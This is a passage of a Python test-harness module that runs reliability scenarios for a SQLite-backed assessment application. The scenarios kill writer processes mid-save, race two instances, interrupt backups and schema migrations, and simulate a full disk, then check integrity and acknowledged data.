"""Reliability scenarios: plain functions that return figures (a dict), no pytest here.

Each ``scenario_*`` function runs one promise of docs/reliability.md (see /work/shared) with the
counts it is given and returns a dict of figures, always with:

* ``ok``      -- True when every promise held,
* ``summary`` -- one sentence with the figures, as published in docs/reliability.md,
* ``problems``-- a list of short descriptions of what went wrong (empty when ``ok``).

The fast pytest versions (tests/reliability/test_*.py) call them with small counts; the report
tool (tools/reliability_report.py, ``make reliability``) calls them with the long counts from
:data:`LONG`. :func:`counts` picks one set from the environment variable
``CAPACITY_RELIABILITY`` (``long`` or anything else for fast).
"""
from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any
from collections.abc import Callable, Iterator

HERE = Path(__file__).resolve().parent
CHILD = HERE / "child.py"
REPO = HERE.parent.parent
FIXTURES = REPO / "tests" / "storage" / "fixtures"

# --- counts -----------------------------------------------------------------------------------

FAST = {
    "crash_kills": 10, "two_instances": 2, "backup_kills": 4, "migration_kills": 4, "export_import_kills": 4,
    "fuzz_mutations": 100, "fuzz_truncation_step": 5, "gui_closes": 5,
}
LONG = {
    "crash_kills": 200, "two_instances": 20, "backup_kills": 50, "migration_kills": 50, "export_import_kills": 40,
    "fuzz_mutations": 2000, "fuzz_truncation_step": 1, "gui_closes": 50,
}


def is_long() -> bool:
    return os.environ.get("CAPACITY_RELIABILITY", "").lower() == "long"


def counts() -> dict:
    return dict(LONG if is_long() else FAST)


# --- small helpers ----------------------------------------------------------------------------

_DATA_ROOT: list[str] = []


def _data_dir() -> str:
    """A fresh data folder for one child, inside one folder of this process removed when it ends
    (the runs left a folder per child in the system's temporary folder, thousands a day)."""
    if not _DATA_ROOT:
        import atexit
        import shutil

        _DATA_ROOT.append(tempfile.mkdtemp(prefix="capacity-rel-data-"))
        atexit.register(shutil.rmtree, _DATA_ROOT[0], True)
    return tempfile.mkdtemp(dir=_DATA_ROOT[0])


def child_env() -> dict:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(REPO), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    env.setdefault("CAPACITY_APP_DATA", _data_dir())
    env["PYTHONUNBUFFERED"] = "1"
    return env


class Child:
    """A child.py process whose stdout lines are collected by a thread as they arrive."""

    def __init__(self, mode: str, args: dict, stdin: bool = False):
        self.started = time.perf_counter()
        self.proc = subprocess.Popen(
            [sys.executable, str(CHILD), mode, json.dumps(args)], stdout=subprocess.PIPE,
            stderr=subprocess.PIPE, stdin=subprocess.PIPE if stdin else subprocess.DEVNULL,
            text=True, env=child_env(), cwd=str(REPO))
        self.lines: list[str] = []
        self.times: list[float] = []
        self.partial = ""
        self._cond = threading.Condition()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        self.stderr = ""

    def _read(self) -> None:
        assert self.proc.stdout is not None
        while True:
            line = self.proc.stdout.readline()
            if not line:
                break
            with self._cond:
                if line.endswith("\n"):
                    self.lines.append(line.rstrip("\n"))
                    self.times.append(time.perf_counter())
                else:  # cut by the kill: never acknowledged
                    self.partial = line
                self._cond.notify_all()
        with self._cond:
            self._cond.notify_all()

    def wait_for(self, prefix: str, timeout: float = 60.0) -> bool:
        deadline = time.monotonic() + timeout
        with self._cond:
            while True:
                if any(ln.startswith(prefix) for ln in self.lines):
                    return True
                if self.proc.poll() is not None and not self._reader.is_alive():
                    return False
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self._cond.wait(min(left, 0.2))

    def kill(self) -> None:
        if self.proc.poll() is None:
            os.kill(self.proc.pid, signal.SIGKILL)
        self.finish()

    def finish(self, timeout: float = 120.0) -> int:
        self.proc.wait(timeout=timeout)
        self._reader.join(timeout=30)
        assert self.proc.stderr is not None
        self.stderr = self.proc.stderr.read()
        for f in (self.proc.stdout, self.proc.stderr, self.proc.stdin):
            if f is not None:
                with contextlib.suppress(OSError):
                    f.close()
        return self.proc.returncode

    def time_of(self, line: str) -> float | None:
        for ln, t in zip(list(self.lines), list(self.times), strict=False):  # a reader thread appends
            if ln == line or ln.startswith(line + " "):
                return t
        return None

    def send(self, text: str = "\n") -> None:
        if self.proc.poll() is None and self.proc.stdin is not None:
            with contextlib.suppress(OSError):
                self.proc.stdin.write(text)
                self.proc.stdin.flush()

    def acks_timed(self) -> list[tuple[float, dict]]:
        return [(t, json.loads(ln[4:])) for ln, t in zip(list(self.lines), list(self.times), strict=False)
                if ln.startswith("ACK ")]

    def acks(self) -> list[dict]:
        return [json.loads(ln[4:]) for ln in list(self.lines) if ln.startswith("ACK ")]


def ro_connect(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


def db_digest(path: Path) -> str:
    """A checksum of the database content (every table, row by row). The dump's lines are sorted:
    VACUUM INTO (the backups) may list the same indexes in another order."""
    conn = ro_connect(path)
    try:
        h = hashlib.sha256()
        for line in sorted(conn.iterdump()):
            h.update(line.encode("utf-8", "surrogatepass"))
            h.update(b"\n")
        return h.hexdigest()
    finally:
        conn.close()


def read_state(path: Path) -> dict:
    """Answers, evidence and history values as stored (read through a separate connection)."""
    conn = ro_connect(path)
    try:
        answers = {(aid, key): (status, json.loads(value) if value is not None else None, comment or "")
                   for aid, key, status, value, comment in conn.execute(
                       "SELECT assessment_id, key, status, value, comment FROM answers")}
        evidence = {(aid, key, text) for aid, key, text in conn.execute(
            "SELECT assessment_id, key, text FROM evidence")}
        hist_values, hist_comments, hist_evidence = set(), set(), set()
        for key, field, new in conn.execute("SELECT key, field, new FROM history"):
            new = json.loads(new) if new is not None else None
            if field == "value" and isinstance(new, dict):
                hist_values.add((key, json.dumps(new.get("value"))))
            elif field == "comment":
                hist_comments.add((key, new))
            elif field == "evidence" and isinstance(new, dict):
                hist_evidence.add((key, new.get("text")))
        return {"answers": answers, "evidence": evidence, "hist_values": hist_values,
                "hist_comments": hist_comments, "hist_evidence": hist_evidence}
    finally:
        conn.close()


def text_keys(q) -> list[str]:
    return sorted(k for k, fld, _ in q.all_keys() if fld.type == "text" and not fld.constraint)


def make_database(path: Path, n_answers: int = 50, seed: int = 1) -> int:
    """A database with one assessment and ``n_answers`` text answers (through the services)."""
    from capacity_app.services.assessments import (
        add_evidence, create_assessment, open_store, questionnaire_for, record_answer,
    )

    q = questionnaire_for()
    rng = random.Random(seed)
    keys = text_keys(q)
    with open_store(path, daily_backup=False) as store:
        a = create_assessment(store, q, country="KEN", round=2026)
        for i in range(n_answers):
            key = keys[i % len(keys)]
            record_answer(store, q, a.id, key, f"seed {i} " + "s" * rng.randint(0, 200),
                          comment=f"seed comment {i}" if i % 3 == 0 else None)
            if i % 10 == 0:
                add_evidence(store, q, a.id, key, "document", f"seed evidence {i}")
        return a.id


def bulk_database(path: Path, n_assessments: int = 3) -> None:
    """A larger database: every answer key of several assessments filled by raw SQL (fast),
    for backup and migration scenarios that need work to take time."""
    from capacity_app.services.assessments import open_store, questionnaire_for

    q = questionnaire_for()
    with open_store(path, daily_backup=False) as store:
        for n in range(n_assessments):
            a = store.create_assessment(country="KEN", m49="404", round=2020 + n, title=f"bulk {n}",
                                        questionnaire_id=q.id, questionnaire_version=q.version)
            with store.transaction():
                for i, (key, _, _) in enumerate(q.all_keys()):
                    store.db.execute(
                        "INSERT INTO answers(assessment_id, key, status, value, comment, updated_at,"
                        " operator) VALUES (?, ?, 'answered', ?, ?, '2026-01-01T00:00:00', 'bulk')",
                        [a.id, key, json.dumps(f"bulk {n} {i}"), f"comment {i}"])
                    store.db.execute(
                        "INSERT INTO history(assessment_id, key, field, old, new, at, operator)"
                        " VALUES (?, ?, 'value', NULL, ?, '2026-01-01T00:00:00', 'bulk')",
                        [a.id, key, json.dumps({"status": "answered", "value": f"bulk {n} {i}"})])


def result(ok: bool, summary: str, problems: list[str], **figures: Any) -> dict:
    out = {"ok": bool(ok) and not problems, "summary": summary, "problems": problems[:20]}
    out.update(figures)
    return out


def _tag(value: str) -> str:
    """The run/sequence tag of a value written by child.py ('v00003-0000012 zzz' -> '00003-0000012')."""
    return value[1:14]


# --- 1. crash safety --------------------------------------------------------------------------

def scenario_crash_kills(workdir: Path, kills: int, seed: int = 8) -> dict:
    """SIGKILL a writer at random moments; after each kill check integrity and every acknowledged
    answer, comment, evidence and history row."""
    from capacity_app.storage.db import check_file

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    db = workdir / "crash.sqlite3"
    aid = make_database(db, n_answers=20)
    rng = random.Random(seed)
    last_value: dict[str, str] = {}
    last_comment: dict[str, str] = {}
    acked_values: list[tuple[str, str]] = []
    acked_comments: list[tuple[str, str]] = []
    acked_evidence: list[tuple[str, str]] = []
    corrupt = lost = hist_missing = acked_total = 0
    kills_after_ack = kills_before_ready = 0
    problems: list[str] = []
    t0 = time.perf_counter()
    for run in range(1, kills + 1):
        child = Child("write", {"db": str(db), "aid": aid, "run": run, "seed": seed * 100003 + run})
        if rng.random() < 0.15:
            time.sleep(rng.uniform(0.02, 0.6))  # may land while opening / checking / backing up
        else:
            if not child.wait_for("READY", 60):
                child.kill()
                problems.append(f"run {run}: writer did not start: {child.stderr.strip()[-300:]}")
                continue
            time.sleep(rng.uniform(0.0, 0.35))
        child.kill()
        if child.proc.returncode != -signal.SIGKILL:
            problems.append(f"run {run}: writer ended by itself (code {child.proc.returncode}): "
                            f"{child.stderr.strip()[-300:]}")
        if "READY" not in child.lines:
            kills_before_ready += 1
        acks = child.acks()
        if acks:
            kills_after_ack += 1
        acked_total += len(acks)
        for a in acks:
            if a["op"] == "value":
                last_value[a["key"]] = a["value"]
                acked_values.append((a["key"], a["value"]))
                if "comment" in a:
                    last_comment[a["key"]] = a["comment"]
                    acked_comments.append((a["key"], a["comment"]))
            else:
                acked_evidence.append((a["key"], a["text"]))
        status = check_file(db)
        if status != "ok":
            corrupt += 1
            problems.append(f"run {run}: integrity check: {status}")
            break
        state = read_state(db)
        for key, value in last_value.items():
            got = state["answers"].get((aid, key))
            stored = got[1] if got else None
            # a later write to the same key may have committed just before the kill, unacknowledged
            if not isinstance(stored, str) or not stored.startswith("v") or _tag(stored) < _tag(value):
                lost += 1
                problems.append(f"run {run}: {key}: acknowledged {value[:20]!r}, stored {str(stored)[:20]!r}")
        for key, comment in last_comment.items():
            got = state["answers"].get((aid, key))
            stored = got[2] if got else ""
            if not stored.startswith("c") or stored[1:14] < comment[1:14]:
                lost += 1
                problems.append(f"run {run}: {key}: acknowledged comment lost")
        for key, text in acked_evidence:
            if (aid, key, text) not in state["evidence"]:
                lost += 1
                problems.append(f"run {run}: {key}: acknowledged evidence lost")
        hv, hc, he = state["hist_values"], state["hist_comments"], state["hist_evidence"]
        hist_missing += sum((k, json.dumps(v)) not in hv for k, v in acked_values)
        hist_missing += sum((k, c) not in hc for k, c in acked_comments)
        hist_missing += sum((k, t) not in he for k, t in acked_evidence)
        # count each missing history row once
        acked_values = [(k, v) for k, v in acked_values if (k, json.dumps(v)) in hv]
        acked_comments = [(k, c) for k, c in acked_comments if (k, c) in hc]
        if lost or hist_missing:
            break
    # the application itself opens the database afterwards
    from capacity_app.services.assessments import open_store

    try:
        with open_store(db, daily_backup=False) as s:
            reopened = s.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    except Exception as exc:  # noqa: BLE001 - a figure, reported below
        reopened = False
        problems.append(f"reopen after the last kill: {type(exc).__name__}: {exc}")
    elapsed = time.perf_counter() - t0
    ok = corrupt == 0 and lost == 0 and hist_missing == 0 and reopened
    summary = (f"{kills} kills ({kills_after_ack} after at least one acknowledgement, "
               f"{kills_before_ready} while opening): {corrupt} corrupt, {lost} acknowledged answers "
               f"lost of {acked_total}, {hist_missing} history rows missing")
    return result(ok, summary, problems, kills=kills, acknowledged=acked_total, corrupt=corrupt,
                  lost=lost, history_missing=hist_missing, kills_after_ack=kills_after_ack,
                  kills_while_opening=kills_before_ready, seconds=round(elapsed, 1))


# --- 2. two instances -------------------------------------------------------------------------

def scenario_two_instances(workdir: Path, rounds: int, seed: int = 2) -> dict:
    """While a process writes, a second process and a second Store in this process are refused
    with a clear message; two writers started together never overlap; nothing acknowledged is lost."""
    from capacity_app.services.assessments import open_store
    from capacity_app.storage.db import StoreLockedError, check_file

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    problems: list[str] = []
    attempts = refused = unclear = two_writers = lost = acked_total = sequential = 0
    expect = "already open in another capacity-app instance"

    def judge(msg: str, where: str) -> None:
        nonlocal refused, unclear
        refused += 1
        if expect not in msg:
            unclear += 1
            problems.append(f"{where}: unclear refusal: {msg!r}")

    for r in range(rounds):
        db = workdir / f"two-{r}.sqlite3"
        aid = make_database(db, n_answers=3)
        # (a) a writer holds the database and keeps writing
        first = Child("write", {"db": str(db), "aid": aid, "run": 1, "seed": seed + r,
                                "until_stdin": True}, stdin=True)
        if not first.wait_for("READY", 60):
            first.kill()
            problems.append(f"round {r}: first writer did not start: {first.stderr[-300:]}")
            continue
        second = Child("open", {"db": str(db)}, stdin=True)
        attempts += 1
        try:
            attempts += 1
            open_store(db, daily_backup=False).close()
            two_writers += 1
            problems.append(f"round {r}: this process opened the database while another process wrote")
        except StoreLockedError as exc:
            judge(str(exc), f"round {r} (same process)")
        second.wait_for("", 60)
        still_writing = first.proc.poll() is None
        second.send()
        code_second = second.finish()
        first.send()
        code_first = first.finish()
        refusals = [ln for ln in second.lines if ln.startswith("REFUSED ")]
        if refusals and code_second == 3:
            judge(json.loads(refusals[0][8:]), f"round {r} (second process)")
        elif "READY" in second.lines:
            two_writers += 1
            problems.append(f"round {r}: a second process opened the database for writing "
                            f"(first still writing: {still_writing})")
        else:
            problems.append(f"round {r}: second process neither refused nor opened: {second.stderr[-300:]}")
        if code_first != 0:
            problems.append(f"round {r}: first writer failed ({code_first}): {first.stderr[-300:]}")
        # (b) two writers started at the same moment
        racers = [Child("write", {"db": str(db), "aid": aid, "run": 10 + k, "count": 300, "seed": k})
                  for k in range(2)]
        codes = [c.finish() for c in racers]
        attempts += 2
        winners = [c for c, code in zip(racers, codes, strict=True) if code == 0]
        for c, code in zip(racers, codes, strict=True):
            if code == 3:
                judge(json.loads([ln for ln in c.lines if ln.startswith("REFUSED ")][0][8:]),
                      f"round {r} (racing writers)")
            elif code != 0:
                problems.append(f"round {r}: racing writer ended with code {code}: {c.stderr[-300:]}")
        if len(winners) == 2:
            # allowed only one after the other: the later READY after the earlier DONE
            a, b = sorted(winners, key=lambda c: c.time_of("READY") or 0)
            if (b.time_of("READY") or 0) < (a.time_of("DONE") or float("inf")):
                two_writers += 1
                problems.append(f"round {r}: two writers overlapped")
            else:
                sequential += 1
        status = check_file(db)
        if status != "ok":
            problems.append(f"round {r}: integrity check: {status}")
        state = read_state(db)
        # every writer ended normally: each key holds exactly the last acknowledged value (by time)
        timed = sorted((x for c in [first, *winners] for x in c.acks_timed()), key=lambda x: x[0])
        acked_total += len(timed)
        last: dict[str, str] = {}
        for _, a in timed:
            if a["op"] == "value":
                last[a["key"]] = a["value"]
            elif (aid, a["key"], a["text"]) not in state["evidence"]:
                lost += 1
                problems.append(f"round {r}: evidence {a['text'][:20]!r} lost")
        for key, value in last.items():
            stored = state["answers"].get((aid, key), (None, None, None))[1]
            if stored != value:
                lost += 1
                problems.append(f"round {r}: {key}: last acknowledged {value[:20]!r}, stored {str(stored)[:20]!r}")
    ok = two_writers == 0 and lost == 0 and unclear == 0
    summary = (f"{rounds} rounds, {attempts} second-writer attempts: {refused} refused with a clear "
               f"message, {unclear} unclear, {sequential} racing pairs ran one after the other, "
               f"{two_writers} times two writers, {lost} acknowledged "
               f"answers lost of {acked_total}")
    return result(ok, summary, problems, rounds=rounds, attempts=attempts, refused=refused, sequential=sequential,
                  unclear=unclear, two_writers=two_writers, lost=lost, acknowledged=acked_total)


# --- 3. crash during backup and migration -----------------------------------------------------

def _backup_files(folder: Path) -> tuple[list[Path], list[Path]]:
    if not folder.is_dir():
        return [], []
    return sorted(folder.glob("*.sqlite3")), sorted(p for p in folder.iterdir() if not p.name.endswith(".sqlite3"))


def scenario_backup_kills(workdir: Path, kills: int, seed: int = 3) -> dict:
    """SIGKILL while Store.backup() runs (VACUUM INTO a temporary file, then rename): every backup
    file present is complete, the database is unchanged."""
    from capacity_app.storage.db import check_file

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    db = workdir / "backup.sqlite3"
    bulk_database(db, n_assessments=3)
    before = db_digest(db)
    n_answers = ro_connect(db).execute("SELECT count(*) FROM answers").fetchone()[0]
    folder = db.parent / "backups"
    rng = random.Random(seed)
    problems: list[str] = []
    incomplete = changed = 0
    completed = 0
    checked: set[Path] = set()
    for k in range(kills):
        child = Child("backup", {"db": str(db)})
        if not child.wait_for("READY", 60):
            child.kill()
            problems.append(f"kill {k}: backup child did not start: {child.stderr[-300:]}")
            continue
        time.sleep(rng.uniform(0.0, 0.4))
        child.kill()
        completed += sum(1 for ln in child.lines if ln.startswith("DONE"))
        if check_file(db) != "ok" or db_digest(db) != before:
            changed += 1
            problems.append(f"kill {k}: the database changed or is damaged")
        finals, _ = _backup_files(folder)
        for p in finals:
            if p in checked:
                continue
            checked.add(p)
            st = check_file(p)
            ok_count = st == "ok" and ro_connect(p).execute("SELECT count(*) FROM answers").fetchone()[0] == n_answers
            if not ok_count:
                incomplete += 1
                problems.append(f"kill {k}: backup {p.name} is incomplete ({st})")
    finals, leftovers = _backup_files(folder)
    leftover_bytes = sum(p.stat().st_size for p in leftovers)
    ok = incomplete == 0 and changed == 0
    summary = (f"{kills} kills during backups ({completed} backups completed, {len(checked)} backup "
               f"files checked): {incomplete} incomplete backups, {changed} databases changed; "
               f"{len(leftovers)} temporary files left behind by the last kill ({leftover_bytes // 1024} KiB, "
               f"removed by the next backup)")
    return result(ok, summary, problems, kills=kills, completed=completed, checked=len(checked),
                  incomplete=incomplete, changed=changed, leftover_temp_files=len(leftovers))


def _migration_state(db: Path, before: str, n_answers: int, n_history: int) -> str:
    conn = ro_connect(db)
    try:
        applied = {r[0] for r in conn.execute("SELECT name FROM _sqlite_migrations")}
        cols = {r[1] for r in conn.execute("PRAGMA table_info(answers)")}
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
        if "m900_reliability_probe" not in applied:
            if "probe" in cols or "probe_copy" in tables:
                return "between"
            conn.close()
            return "before" if db_digest(db) == before else "between"
        if "probe" not in cols or "probe_copy" not in tables:
            return "between"
        rows = conn.execute("SELECT count(*), sum(probe = key || '!' || coalesce(value, '')) FROM answers").fetchone()
        copies = conn.execute("SELECT count(*) FROM probe_copy").fetchone()[0]
        if rows[0] != n_answers or rows[1] != n_answers or copies != 6 * n_history:
            return "between"
        return "after"
    finally:
        with contextlib.suppress(Exception):
            conn.close()


def scenario_migration_kills(workdir: Path, kills: int, seed: int = 4) -> dict:
    """SIGKILL while a database with a pending (slow, extra) schema step is opened: the database is
    either before or after the step, never between; backups present are complete."""
    from capacity_app.storage.db import check_file

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    original = workdir / "original.sqlite3"
    bulk_database(original, n_assessments=1)
    before = db_digest(original)
    conn = ro_connect(original)
    n_answers = conn.execute("SELECT count(*) FROM answers").fetchone()[0]
    n_history = conn.execute("SELECT count(*) FROM history").fetchone()[0]
    conn.close()
    db = workdir / "migrating.sqlite3"
    rng = random.Random(seed)
    problems: list[str] = []
    outcomes = {"before": 0, "after": 0, "between": 0}
    damaged = incomplete_backups = backups_seen = 0
    # calibrate: how long does the open + backup + migration take once started?
    shutil.copyfile(original, db)
    child = Child("migrate", {"db": str(db)})
    code = child.finish()
    if code != 0:
        return result(False, "migration child failed", [child.stderr[-500:]])
    calib = max(0.02, (child.time_of("MIGRATED") or 0) - (child.time_of("START") or 0))
    if _migration_state(db, before, n_answers, n_history) != "after":
        problems.append("an uninterrupted migration did not end in the migrated state")
    if len(_backup_files(db.parent / "backups")[0]) < 1:
        problems.append("no pre-migration backup was taken")
    for k in range(kills):
        for side in ("-wal", "-shm"):
            Path(str(db) + side).unlink(missing_ok=True)
        shutil.rmtree(db.parent / "backups", ignore_errors=True)
        shutil.copyfile(original, db)
        child = Child("migrate", {"db": str(db)})
        child.wait_for("START", 60)
        time.sleep(rng.uniform(0.0, 1.15) * calib)
        child.kill()
        st = check_file(db)
        if st != "ok":
            damaged += 1
            problems.append(f"kill {k}: database damaged: {st}")
            continue
        state = _migration_state(db, before, n_answers, n_history)
        outcomes[state] += 1
        if state == "between":
            problems.append(f"kill {k}: the database is between schema versions")
        for p in _backup_files(db.parent / "backups")[0]:
            backups_seen += 1
            if check_file(p) != "ok" or db_digest(p) != before:
                incomplete_backups += 1
                problems.append(f"kill {k}: pre-migration backup {p.name} incomplete")
        if state == "after" and not _backup_files(db.parent / "backups")[0]:
            problems.append(f"kill {k}: migrated without a pre-migration backup")
        # the application then opens it and finishes the upgrade
    child = Child("migrate", {"db": str(db)})
    if child.finish() != 0 or _migration_state(db, before, n_answers, n_history) != "after":
        problems.append(f"after the last kill, reopening did not complete the upgrade: {child.stderr[-300:]}")
    ok = outcomes["between"] == 0 and damaged == 0 and incomplete_backups == 0
    summary = (f"{kills} kills while opening with a pending schema step (full run {calib:.2f} s): "
               f"{outcomes['before']} before, {outcomes['after']} after, {outcomes['between']} between, "
               f"{damaged} damaged; {backups_seen} pre-migration backups, {incomplete_backups} incomplete")
    return result(ok, summary, problems, kills=kills, before=outcomes["before"], after=outcomes["after"],
                  between=outcomes["between"], damaged=damaged, backups=backups_seen,
                  incomplete_backups=incomplete_backups, full_run_seconds=round(calib, 2))


# --- 4. disk full -----------------------------------------------------------------------------

@contextlib.contextmanager
def small_disk(workdir: Path, size_kib: int = 3072, allow: bool = True) -> Iterator[Path | None]:
    """A small tmpfs mounted under ``workdir`` (root only); yields None when mounting is impossible."""
    mnt = Path(workdir) / "smalldisk"
    mnt.mkdir(parents=True, exist_ok=True)
    mounted = False
    if allow and hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("mount"):
        res = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_kib}k,mode=0700", "tmpfs", str(mnt)],
                             capture_output=True, text=True)
        mounted = res.returncode == 0
    try:
        yield mnt if mounted else None
    finally:
        if mounted:
            for _ in range(20):
                if subprocess.run(["umount", str(mnt)], capture_output=True).returncode == 0:
                    break
                time.sleep(0.1)


def fill_disk(folder: Path) -> Path:
    """Write a ballast file until the disk is full."""
    ballast = folder / "ballast.bin"
    with open(ballast, "wb", buffering=0) as fh:
        for chunk in (1 << 16, 1 << 12, 1 << 9, 1):
            block = b"\0" * chunk
            while True:
                try:
                    fh.write(block)
                except OSError as exc:
                    if exc.errno in (errno.ENOSPC, errno.EDQUOT):
                        break
                    raise
    return ballast


def _disk_full_message(msg: str) -> bool:
    return "disk is full" in msg


def _exports_on_full_disk(store, aid: int, folder: Path, problems: list[str]) -> dict:
    """Workbook and PDF exports onto the full disk: a readable refusal, no file left behind."""
    out: dict[str, Any] = {}
    exports = []
    from capacity_app.services.exchange import export_workbook

    exports.append(("workbook", "export.xlsx", export_workbook))
    if is_long():  # 10 s: long runs only
        from capacity_app.services.reports import export_report_pdf

        exports.append(("report", "report.pdf", export_report_pdf))
    for what, name, fn in exports:
        before = set(os.listdir(folder))
        try:
            fn(store, aid, folder / name)
            msg = None
            problems.append(f"{what} export succeeded on a full disk")
        except Exception as exc:  # noqa: BLE001 - classified
            msg = f"{type(exc).__name__}: {exc}"
            user = getattr(exc, "user_error", False) or type(exc).__name__ in ("ServiceError", "StorageError")
            if not user or not ("space" in str(exc).lower() or "full" in str(exc).lower()):
                problems.append(f"{what} export on a full disk: unclear error {msg[:200]!r}")
        left = sorted(set(os.listdir(folder)) - before)
        if left:
            problems.append(f"{what} export on a full disk left {left}")
        out[f"{what}_export_message"] = msg
        out[f"{what}_export_files_left"] = len(left)
    return out


def scenario_disk_full(workdir: Path, use_tmpfs: bool = True) -> dict:
    """Disk full while saving and while backing up: a clear message, nothing earlier lost, no
    partial backup, the pending answer saved once space is back."""
    from capacity_app.services.assessments import (
        ServiceError, create_assessment, open_store, questionnaire_for, record_answer,
    )
    from capacity_app.storage.db import StorageError, check_file

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    q = questionnaire_for()
    keys = text_keys(q)
    problems: list[str] = []
    figures: dict[str, Any] = {}
    with small_disk(workdir, allow=use_tmpfs) as mnt:
        method = "tmpfs" if mnt is not None else "max_page_count"
        folder = mnt if mnt is not None else workdir / "pagecount"
        folder.mkdir(parents=True, exist_ok=True)
        db = folder / "full.sqlite3"
        store = open_store(db, daily_backup=False, backup_dir=folder / "backups")
        try:
            a = create_assessment(store, q, country="KEN", round=2026)
            acked: dict[str, str] = {}
            for i in range(60):
                acked[keys[i]] = f"before {i} " + "b" * 300
                record_answer(store, q, a.id, keys[i], acked[keys[i]])
            store.backup("manual")
            ballast = None
            if mnt is not None:
                ballast = fill_disk(folder)
            else:
                pages = store.db.execute("PRAGMA page_count").fetchone()[0]
                store.db.execute(f"PRAGMA max_page_count = {pages}")
            # keep saving (bigger and bigger) until the disk refuses; everything accepted is acked
            refusal = None
            absorbed = 0
            pending = None
            for i in range(400):
                key = keys[60 + i % (len(keys) - 60)]
                value = f"during {i} " + "d" * (2000 + 200 * i)
                try:
                    record_answer(store, q, a.id, key, value)
                    acked[key] = value
                    absorbed += 1
                except ServiceError as exc:
                    refusal = str(exc)
                    pending = (key, value)
                    break
            figures["saves_before_refusal"] = absorbed
            if refusal is None:
                problems.append("the disk never refused a save")
            elif not _disk_full_message(refusal):
                problems.append(f"unclear message when the disk is full: {refusal!r}")
            figures["save_message"] = refusal
            # backup on a full disk
            n_backups = len(store.backups())
            backup_msg = None
            if mnt is not None:
                try:
                    store.backup("manual")
                    problems.append("a backup succeeded on a full disk")
                except StorageError as exc:
                    backup_msg = str(exc)
                    if not _disk_full_message(backup_msg):
                        problems.append(f"unclear message when a backup hits a full disk: {backup_msg!r}")
                except Exception as exc:  # noqa: BLE001 - a defect to report
                    backup_msg = f"{type(exc).__name__}: {exc}"
                    problems.append(f"backup on a full disk raised {backup_msg}")
                partial = [p.name for p in (folder / "backups").iterdir() if not p.name.endswith(".sqlite3")]
                if partial:
                    problems.append(f"partial backup files left on a full disk: {partial}")
                if len(store.backups()) != n_backups:
                    problems.append("the number of backups changed after a failed backup")
                figures["partial_backup_files"] = len(partial)
            figures["backup_message"] = backup_msg
            if mnt is not None:
                figures.update(_exports_on_full_disk(store, a.id, folder, problems))
            # nothing earlier lost, even before space comes back
            state = read_state(db)
            lost_full = sum(state["answers"].get((a.id, k), (0, None))[1] != v for k, v in acked.items())
            figures["lost_while_full"] = lost_full
            if lost_full:
                problems.append(f"{lost_full} acknowledged answers missing while the disk is full")
            # space back: the same answer is saved, through the same open store
            if ballast is not None:
                ballast.unlink()
            else:
                store.db.execute("PRAGMA max_page_count = 1073741823")
            if pending is not None:
                try:
                    record_answer(store, q, a.id, *pending)
                    acked[pending[0]] = pending[1]
                    figures["pending_saved"] = True
                except ServiceError as exc:
                    figures["pending_saved"] = False
                    problems.append(f"the pending answer could not be saved once space was back: {exc}")
            if mnt is not None:
                try:
                    store.backup("manual")
                except StorageError as exc:
                    problems.append(f"backup failed once space was back: {exc}")
        finally:
            store.close()
        status = check_file(db)
        if status != "ok":
            problems.append(f"integrity after disk full: {status}")
        with open_store(db, daily_backup=False, backup_dir=folder / "backups") as s2:
            got = s2.answers(a.id)
            lost = sum(got.get(k) is None or got[k].value != v for k, v in acked.items())
        figures["lost"] = lost
        if lost:
            problems.append(f"{lost} acknowledged answers lost after the disk was full")
    ok = not problems
    summary = (f"disk full ({method}), {figures.get('saves_before_refusal')} saves accepted before the refusal: "
               f"clear message {'yes' if figures.get('save_message') and _disk_full_message(figures['save_message']) else 'NO'}"
               + (f", backup refused clearly {'yes' if figures.get('backup_message') and _disk_full_message(figures['backup_message']) else 'NO'}"
                  f" with {figures.get('partial_backup_files', 0)} partial files"
                  + "".join(f", {w} export refused {'clearly' if figures.get(f'{w}_export_message') and not any(w in p for p in problems) else 'UNCLEARLY'}"
                            f" leaving {figures.get(f'{w}_export_files_left', 0)} files"
                            for w in ("workbook", "report") if f"{w}_export_message" in figures)
                  if method == "tmpfs" else "")
               + f", {figures.get('lost_while_full', '?')} answers lost while full, {figures.get('lost', '?')} after, "
               f"pending answer saved once space was back: {'yes' if figures.get('pending_saved') else 'NO'}")
    return result(ok, summary, problems, method=method, **figures)


# --- 5. upgrades ------------------------------------------------------------------------------

def fixture_databases() -> list[Path]:
    return sorted(FIXTURES.glob("schema-v*.sqlite3"))


@contextlib.contextmanager
def extra_schema_step() -> Iterator[str]:
    """Temporarily register one more schema step in this process (a future upgrade)."""
    from capacity_app.storage.schema import MIGRATIONS

    name = "m999_reliability_future"

    def m999_reliability_future(db):
        db.execute("ALTER TABLE answers ADD COLUMN future_flag INTEGER DEFAULT 0")
        db.execute("UPDATE answers SET future_flag = length(key)")

    MIGRATIONS(name=name)(m999_reliability_future)
    try:
        yield name
    finally:
        MIGRATIONS._migrations[:] = [m for m in MIGRATIONS._migrations if m.name != name]


def check_fixture_upgrade(fixture: Path, workdir: Path) -> dict:
    """Open a copy of a fixture database with the application; figures of what was kept."""
    from capacity_app.services.assessments import open_store
    from capacity_app.storage.db import check_file, list_backups
    from capacity_app.storage.schema import MIGRATIONS

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    expected = json.loads(fixture.with_suffix(".json").read_text(encoding="utf-8"))
    db = workdir / fixture.name
    shutil.copyfile(fixture, db)
    before = db_digest(db)
    conn = ro_connect(db)
